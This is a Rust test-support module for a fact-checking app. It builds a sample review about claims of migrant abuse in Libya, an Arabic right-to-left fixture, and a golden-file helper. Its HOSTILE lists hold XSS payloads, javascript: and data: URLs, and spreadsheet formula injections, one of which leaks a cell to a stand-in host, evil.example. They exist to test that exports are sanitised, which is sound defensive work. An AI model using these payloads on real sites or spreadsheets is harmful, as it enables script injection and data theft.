//! Test data shared by the crates' tests and the app's: the sample review built from
//! assets/sample-article.txt with fixed ids and dates, a review full of hostile payloads, the
//! Arabic review, the files under `crates/testkit/data/` (the hostile corpus, format fixtures,
//! import fixtures), the golden-file helper (`UPDATE_GOLDEN=1`) and the fuzz-corpus replay.
//!
//! A dev-dependency only: nothing that ships links it.

use std::path::PathBuf;

use claimdesk_model::text::normalize_article_text;
use claimdesk_model::{Article, Claim, ClaimId, ClaimStatus, Evidence, Review, Span, Timestamp};

/// The workspace root.
pub fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A file under `crates/testkit/data/` (`corpus/…`, `fixtures/…`).
pub fn test_file(rel: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("data")
        .join(rel)
}

/// Runs `check` on every input of fuzz target `target`'s corpus (`fuzz/corpus/<target>/`),
/// failing on the first that panics; returns how many inputs ran.
pub fn replay_fuzz_corpus(target: &str, check: fn(&[u8])) -> usize {
    let dir = root().join("fuzz/corpus").join(target);
    let mut count = 0;
    for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
        let path = entry.expect("corpus entry").path();
        let data = std::fs::read(&path).expect("corpus file");
        let result = std::panic::catch_unwind(|| check(&data));
        assert!(result.is_ok(), "{target} fails on {}", path.display());
        count += 1;
    }
    count
}

fn at(s: &str) -> Timestamp {
    Timestamp::parse(s).expect("fixed timestamps are valid")
}

/// A claim over the first occurrence of `quote`, with a fixed id and dates.
pub fn claim(article: &Article, id: &str, quote: &str, status: ClaimStatus) -> Claim {
    let text = article.text();
    let byte = text
        .find(quote)
        .unwrap_or_else(|| panic!("{quote:?} not in the article"));
    let start = article.index().char_of(text, byte);
    let mut c = Claim::new(
        article,
        Span::new(start, start + quote.chars().count()),
        status,
    );
    c.id = ClaimId(id.to_owned());
    c.created = at("2026-11-28T10:00:00Z");
    c.modified = at("2026-11-28T11:30:00Z");
    c
}

/// An evidence entry.
pub fn source(url: &str, title: &str, excerpt: &str, accessed: &str, note: &str) -> Evidence {
    Evidence {
        url: url.into(),
        title: title.into(),
        excerpt: excerpt.into(),
        accessed: accessed.into(),
        note: note.into(),
        ..Evidence::default()
    }
}

/// The sample review: six claims on the sample article (nested, overlapping, each status, one
/// orphan), with verdicts, evidence and review details.
pub fn sample_review() -> Review {
    let raw =
        std::fs::read_to_string(root().join("assets/sample-article.txt")).expect("sample article");
    let article = Article::new(
        "Libya denies abuse of migrants",
        "https://www.libyaobserver.ly/news/example",
        normalize_article_text(&raw),
    );
    let mut lies = claim(
        &article,
        "c-000000000001",
        "the reports were lies and fabrications",
        ClaimStatus::Disputed,
    );
    lies.verdict = "False".into();
    lies.claimant = "Mohammed Besher (AIID)".into();
    lies.claim_date = "2017-11-26".into();
    lies.summary = "Reports of abuse of migrants in Libya are fabricated".into();
    lies.note = "Abuse is documented by several independent bodies.".into();
    lies.evidence = vec![
        source(
            "https://www.ohchr.org/en/press-releases/2017/11/un-human-rights-chief-suffering-migrants-libya-outrage-conscience-humanity",
            "UN human rights chief: Suffering of migrants in Libya outrage to conscience of humanity",
            "The detention system for migrants in Libya is broken beyond repair.",
            "2026-11-28",
            "OHCHR monitors visited detention centres in Tripoli.",
        ),
        source(
            "",
            "Interview with a former detainee",
            "",
            "2026-11-27",
            "Recorded, consent on file.",
        ),
    ];
    let bears = claim(
        &article,
        "c-000000000002",
        "Libya bears no full responsibility for it",
        ClaimStatus::UnderInvestigation,
    );
    let mut blame = claim(
        &article,
        "c-000000000003",
        "Libya is not to blame for the displacement of thousands of persons from their homelands",
        ClaimStatus::Disputed,
    );
    blame.verdict = "Misleading".into();
    blame.claimant = "Mohammed Besher (AIID)".into();
    let mut displaced = claim(
        &article,
        "c-000000000004",
        "the displacement of thousands of persons",
        ClaimStatus::Asserted,
    );
    displaced.verdict = "Accurate".into();
    displaced.evidence = vec![source(
        "https://www.iom.int/",
        "IOM Libya displacement tracking",
        "",
        "2026-11-28",
        "",
    )];
    let coming = claim(
        &article,
        "c-000000000005",
        "from their homelands, coming to Libya",
        ClaimStatus::UnderInvestigation,
    );
    let mut orphan = claim(
        &article,
        "c-000000000006",
        "Libya is bearing the financial responsibility",
        ClaimStatus::Asserted,
    );
    orphan.quote = "Libya pays for every rescue at sea".into();
    orphan.orphaned = true;
    orphan.verdict = "Mostly true".into();
    let mut review =
        Review::with_claims(article, vec![lies, bears, blame, displaced, coming, orphan]);
    review.details.reviewer = "Amal Haddad".into();
    review.details.organisation = "Claimdesk Fact Check".into();
    review.details.article_url = "https://www.libyaobserver.ly/news/example".into();
    review.details.article_published = "2017-11-27".into();
    review.details.report_url = "https://factcheck.example.org/2026/libya-migrants".into();
    review
}

/// Payloads every export must neutralise (formats.md).
pub const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "\"><img src=x onerror=alert(3)>",
    "'><svg onload=alert(4)>",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "[click](javascript:alert(5))",
    "![img](https://evil.example/p.png)",
    "<https://evil.example>",
    "**bold** _em_ `code` ~~strike~~ $x$ | a | b |",
    "# heading\n- list\n> quote\n1. one",
    "🇱🇾 👩‍👩‍👧 e\u{301} \u{202e}RTL override\u{202c}",
];

/// URLs that must never become links.
pub const HOSTILE_URLS: &[&str] = &[
    "javascript:alert(6)",
    " JaVa\tScRiPt:alert(7)",
    "\u{1}javascript:alert(8)",
    "java\nscript:alert(9)",
    "data:text/html,<script>alert(10)</script>",
    "vbscript:msgbox(11)",
];

/// A review whose article, claims, evidence and details are all hostile.
pub fn hostile_review() -> Review {
    let text = HOSTILE.join("\n\n");
    let article = Article::new(HOSTILE[0], HOSTILE_URLS[0], normalize_article_text(&text));
    let mut claims = Vec::new();
    for (k, payload) in HOSTILE.iter().enumerate() {
        let quote = normalize_article_text(payload);
        let status = ClaimStatus::ALL[k % 3];
        let mut c = claim(&article, &format!("h{k}\"><script>"), &quote, status);
        c.verdict = HOSTILE[(k + 1) % HOSTILE.len()].into();
        c.claimant = HOSTILE[(k + 2) % HOSTILE.len()].into();
        c.note = HOSTILE[(k + 3) % HOSTILE.len()].into();
        c.summary = HOSTILE[(k + 4) % HOSTILE.len()].into();
        c.claim_date = HOSTILE[(k + 5) % HOSTILE.len()].into();
        c.evidence = vec![source(
            HOSTILE_URLS[k % HOSTILE_URLS.len()],
            HOSTILE[(k + 6) % HOSTILE.len()],
            HOSTILE[(k + 7) % HOSTILE.len()],
            HOSTILE[(k + 8) % HOSTILE.len()],
            HOSTILE[(k + 9) % HOSTILE.len()],
        )];
        claims.push(c);
    }
    let mut review = Review::with_claims(article, claims);
    review.details.reviewer = HOSTILE[4].into();
    review.details.organisation = HOSTILE[1].into();
    review.details.article_url = HOSTILE_URLS[1].into();
    review.details.article_published = HOSTILE[3].into();
    review.details.report_url = HOSTILE_URLS[2].into();
    review
}

/// Compares `actual` with the golden file at `path`, or rewrites it when `UPDATE_GOLDEN=1`.
pub fn golden(path: &std::path::Path, actual: &[u8]) {
    if std::env::var_os("UPDATE_GOLDEN").is_some_and(|v| v == "1") {
        // Atomic, so a test reading the same file meanwhile never sees it half-written.
        claimdesk_model::atomic::write_atomic(path, actual).expect("write golden");
        return;
    }
    let expected = std::fs::read(path).unwrap_or_else(|e| {
        panic!(
            "{}: {e}; run with UPDATE_GOLDEN=1 to create it",
            path.display()
        )
    });
    if expected != actual {
        let got = std::env::temp_dir().join(format!(
            "claimdesk-golden-{}",
            path.file_name().and_then(|n| n.to_str()).unwrap_or("out")
        ));
        let _ = std::fs::write(&got, actual);
        panic!(
            "{} differs from the output (written to {}); run with UPDATE_GOLDEN=1 if the change is intended",
            path.display(),
            got.display()
        );
    }
}

/// The Arabic fixture (`fixtures/arabic-article.txt`, written for the tests) with four claims:
/// pure right-to-left, one crossing into an English name and a number, one crossing into
/// "WHO", and an English sentence quoting Arabic.
pub fn arabic_review() -> Review {
    let raw = std::fs::read_to_string(test_file("fixtures/arabic-article.txt")).expect("fixture");
    let article = Article::new(
        "وزير الصحة: انخفاض الإصابات",
        "",
        normalize_article_text(&raw),
    );
    let mut drop = claim(
        &article,
        "c-ar0000000001",
        "انخفض بنسبة 40 بالمئة خلال عام 2024",
        ClaimStatus::Disputed,
    );
    drop.verdict = "مضلل".into();
    drop.claimant = "وزير الصحة".into();
    let who = claim(
        &article,
        "c-ar0000000002",
        "منظمة WHO أكدت هذه الأرقام",
        ClaimStatus::UnderInvestigation,
    );
    let mut patients = claim(
        &article,
        "c-ar0000000003",
        "John Smith إن المستشفيات استقبلت 1200 مريض",
        ClaimStatus::Asserted,
    );
    patients.claimant = "John Smith".into();
    let quote = claim(
        &article,
        "c-ar0000000004",
        "quoted the minister: \"الأرقام لا تكذب\"",
        ClaimStatus::Disputed,
    );
    let mut review = Review::with_claims(article, vec![drop, who, patients, quote]);
    review.details.reviewer = "ليلى حداد".into();
    review
}
